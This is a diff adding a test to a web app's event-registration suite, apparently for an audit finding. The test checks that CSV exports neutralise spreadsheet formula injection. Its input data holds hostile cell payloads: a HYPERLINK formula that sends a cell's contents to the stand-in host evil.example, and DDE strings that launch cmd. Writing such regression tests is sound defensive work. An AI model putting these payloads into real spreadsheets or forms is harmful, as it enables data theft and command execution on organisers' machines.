@@ -56,3 +56,36 @@ def test_nobody_else_sees_registrants(app):
         admin = client_of(app)
         login(admin, account(f"admin{len(url)}@x.org", "admin"))
         assert "aigerim@example.kz" in admin.get(url).text
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(app):
+    """Finding 6: a registrant's own words must not become a formula in the organiser's sheet."""
+    organizer = account("organizer@ichcap.org")
+    api, headers = client_of(app), bearer(organizer)
+    api.post("/api/v1/events", json=event_body("webinar"), headers=headers)
+    api.post("/api/v1/events/webinar/publish", headers=headers)
+    hostile = [
+        ('=HYPERLINK("https://evil.example/?"&B2,"Click")', "+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+        ("\tTab =1+1", "Plain Organisation"),
+    ]
+    url = "/api/v1/events/webinar/registrations"
+    for i, (name, organization) in enumerate(hostile):
+        answer = api.post(
+            url, json=person(f"p{i}@example.org", name=name, organization=organization)
+        )
+        assert answer.status_code in (201, 202), answer.get_json()
+    browser = client_of(app)
+    login(browser, organizer)
+    response = browser.get("/en/organize/events/webinar/registrations.csv")
+    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    names = {row["email"]: (row["name"], row["organization"]) for row in rows}
+    assert names["p0@example.org"] == (
+        '\'=HYPERLINK("https://evil.example/?"&B2,"Click")',
+        "'+cmd|' /C calc'!A0",
+    )
+    assert names["p1@example.org"][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert names["p1@example.org"][1] == "'-2+3+cmd|' /C calc'!A0"
+    assert names["p2@example.org"][1] == "Plain Organisation"  # ordinary text is untouched
